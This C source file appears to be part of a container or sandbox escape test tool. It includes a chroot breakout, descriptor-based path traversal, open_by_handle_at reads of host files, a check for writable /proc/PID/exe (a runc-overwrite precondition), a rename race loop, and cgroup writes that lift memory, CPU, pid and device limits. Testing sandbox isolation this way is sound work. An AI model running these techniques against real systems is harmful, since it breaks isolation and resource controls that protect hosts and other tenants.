// Files: descriptors, places of /proc and /sys, and races for names.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

void print_content(const char *name, int fd) {
	char buf[257];
	ssize_t n = read(fd, buf, sizeof buf - 1);
	if (n < 0) {
		printf("%s: %s\n", name, strerror(errno));
		return;
	}
	for (ssize_t i = 0; i < n; i++)
		if (!isprint((unsigned char)buf[i])) buf[i] = ' ';
	buf[n] = 0;
	printf("%s: %zd bytes: %s\n", name, n, buf);
}

// fds lists the descriptors that the process has, with what they are of.
int fds_main(int argc, char **argv) {
	char name[64], to[4096];
	(void)argc, (void)argv;
	for (int fd = 0; fd < 65536; fd++) {
		if (fcntl(fd, F_GETFD) < 0) continue;
		snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(name, to, sizeof to - 1);
		to[n < 0 ? 0 : n] = 0;
		printf("fd %d %s\n", fd, to);
	}
	return 0;
}

// fdread FILE reads FILE of the node by way of any descriptor that is a directory.
int fdread_main(int argc, char **argv) {
	char path[4096];
	for (int fd = -1; argc > 1 && fd < 1024; fd++) {
		snprintf(path, sizeof path, "../../../../../../../..%s", argv[1]);
		if (fd < 0) fd = AT_FDCWD; // where the step was started
		int f = openat(fd, path, O_RDONLY);
		if (f >= 0) print_content(argv[1], f);
		if (fd == AT_FDCWD) fd = -1;
	}
	int f = open(argv[1], O_RDONLY);
	if (f >= 0) print_content(argv[1], f);
	return 0;
}

// read FILE... reads files.
int read_main(int argc, char **argv) {
	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_NONBLOCK);
		if (fd < 0) printf("%s: %s\n", argv[i], strerror(errno));
		else print_content(argv[i], fd);
	}
	return 0;
}

// write FILE [VALUE] writes VALUE, or what is there already.
int write_main(int argc, char **argv) {
	char value[4096] = "";
	if (argc > 2) {
		snprintf(value, sizeof value, "%s", argv[2]);
	} else {
		int fd = open(argv[1], O_RDONLY);
		ssize_t n = fd < 0 ? 0 : read(fd, value, sizeof value - 1);
		value[n < 0 ? 0 : n] = 0;
	}
	int fd = open(argv[1], O_WRONLY);
	if (fd < 0 || write(fd, value, strlen(value)) < 0) printf("%s: %s\n", argv[1], strerror(errno));
	else printf("wrote %s\n", argv[1]);
	return 0;
}

// open FILE... opens devices.
int open_main(int argc, char **argv) {
	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_RDWR | O_NONBLOCK);
		if (fd < 0) fd = open(argv[i], O_RDONLY | O_NONBLOCK);
		if (fd < 0) printf("%s: %s\n", argv[i], strerror(errno));
		else printf("opened %s\n", argv[i]);
	}
	return 0;
}

// chroot FILE leaves a root that another one is around, and reads FILE there.
int chroot_main(int argc, char **argv) {
	mkdir("/jail", 0755);
	int here = open("/", O_RDONLY);
	if (argc < 2 || chroot("/jail") < 0) {
		perror("chroot");
		return 0;
	}
	if (fchdir(here) < 0) perror("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0) perror("chdir");
	if (chroot(".") < 0) perror("chroot");
	int fd = open(argv[1], O_RDONLY);
	if (fd < 0) perror(argv[1]);
	else print_content(argv[1], fd);
	return 0;
}

// handle TYPE HEX opens a file of the node by its handle.
int handle_main(int argc, char **argv) {
	struct {
		struct file_handle head;
		unsigned char data[128];
	} h = {.head = {.handle_type = argc > 2 ? atoi(argv[1]) : 0}};
	for (const char *p = argc > 2 ? argv[2] : ""; p[0] && p[1] && h.head.handle_bytes < sizeof h.data; p += 2) {
		unsigned v;
		sscanf(p, "%2x", &v);
		h.head.f_handle[h.head.handle_bytes++] = v;
	}
	const char *places[] = {"/", "/etc/hosts", "/etc/resolv.conf", "/dev", "/cache"};
	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		int at = open(places[i], O_RDONLY);
		int fd = at < 0 ? -1 : open_by_handle_at(at, &h.head, O_RDONLY);
		if (fd < 0) printf("handle at %s: %s\n", places[i], strerror(errno));
		else print_content(places[i], fd);
	}
	return 0;
}

// exewrite N OWN... looks N times at the programs of all processes, and opens those
// for writing that are not in OWN.
int exewrite_main(int argc, char **argv) {
	static int held[512];
	int n = 0;
	char name[300], to[4096];
	for (int round = argc > 1 ? atoi(argv[1]) : 0; round > 0; round--) {
		DIR *proc = opendir("/proc");
		for (struct dirent *d; proc && (d = readdir(proc));) {
			if (!isdigit((unsigned char)d->d_name[0])) continue;
			snprintf(name, sizeof name, "/proc/%s/exe", d->d_name);
			ssize_t len = readlink(name, to, sizeof to - 1);
			if (len < 0) continue;
			to[len] = 0;
			int own = 0;
			for (int i = 2; i < argc; i++) own |= !strcmp(to, argv[i]);
			if (own) continue;
			int fd = open(name, O_PATH);
			if (fd < 0) continue;
			if (n == 512) {
				close(fd);
				continue;
			}
			printf("saw %s\n", to);
			held[n++] = fd;
		}
		if (proc) closedir(proc);
		for (int i = 0; i < n; i++) {
			snprintf(name, sizeof name, "/proc/self/fd/%d", held[i]);
			int fd = open(name, O_WRONLY);
			if (fd >= 0) {
				printf("writable program\n");
				close(fd);
			}
		}
	}
	printf("looked\n");
	return 0;
}

// swap A B STOP exchanges two names until there is a file STOP, and 10000 times at least.
int swap_main(int argc, char **argv) {
	long done = 0;
	if (argc < 4) return 2;
	printf("swapping\n");
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */) == 0) {
			done++;
		} else {
			// gVisor cannot exchange: move one away, and the other into its place.
			char third[4096];
			snprintf(third, sizeof third, "%s.other", argv[1]);
			if (rename(argv[1], third) == 0 && rename(argv[2], argv[1]) == 0 && rename(third, argv[2]) == 0) done++;
		}
		if (done >= 10000 && access(argv[3], F_OK) == 0) break;
	}
	printf("swapped %ld times\n", done);
	return 0;
}

static void open_all(const char *dir, int depth, int *n) {
	char path[4096];
	DIR *d = depth > 7 ? NULL : opendir(dir);
	for (struct dirent *e; d && (e = readdir(d));) {
		if (snprintf(path, sizeof path, "%s/%s", dir, e->d_name) >= (int)sizeof path) continue;
		if (e->d_type == DT_DIR && e->d_name[0] != '.') open_all(path, depth + 1, n);
		if (e->d_type != DT_REG) continue;
		int fd = open(path, O_WRONLY | O_NONBLOCK);
		if (fd < 0) continue;
		close(fd);
		if ((*n)++ < 5) printf("opened %s for writing\n", path);
	}
	if (d) closedir(d);
}

// openall DIR... opens all files below directories for writing, and writes to none.
int openall_main(int argc, char **argv) {
	int n = 0;
	for (int i = 1; i < argc; i++) open_all(argv[i], 0, &n);
	printf("opened %d files for writing\n", n);
	return 0;
}

static void try_write(const char *dir, const char *file, const char *value) {
	char path[8192];
	snprintf(path, sizeof path, "%s/%s", dir, file);
	int fd = open(path, O_WRONLY);
	if (fd < 0) return;
	if (write(fd, value, strlen(value)) >= 0) printf("wrote %s\n", path);
	close(fd);
}

static void walk(const char *dir, int depth) {
	char path[4096];
	try_write(dir, "memory.limit_in_bytes", "-1");
	try_write(dir, "memory.max", "max");
	try_write(dir, "cpu.cfs_quota_us", "-1");
	try_write(dir, "pids.max", "max");
	try_write(dir, "devices.allow", "a");
	try_write(dir, "cgroup.procs", "0");
	try_write(dir, "notify_on_release", "0");
	snprintf(path, sizeof path, "%s/kiln-escape", dir);
	if (mkdir(path, 0755) == 0) {
		printf("made a group in %s\n", dir);
		rmdir(path);
	}
	DIR *d = depth > 4 ? NULL : opendir(dir);
	for (struct dirent *e; d && (e = readdir(d));) {
		if (e->d_type != DT_DIR || e->d_name[0] == '.') continue;
		if (snprintf(path, sizeof path, "%s/%s", dir, e->d_name) < (int)sizeof path) walk(path, depth + 1);
	}
	if (d) closedir(d);
}

// cgroup DIR raises limits below DIR, and leaves groups.
int cgroup_main(int argc, char **argv) {
	walk(argc > 1 ? argv[1] : "/sys/fs/cgroup", 0);
	printf("walked\n");
	return 0;
}
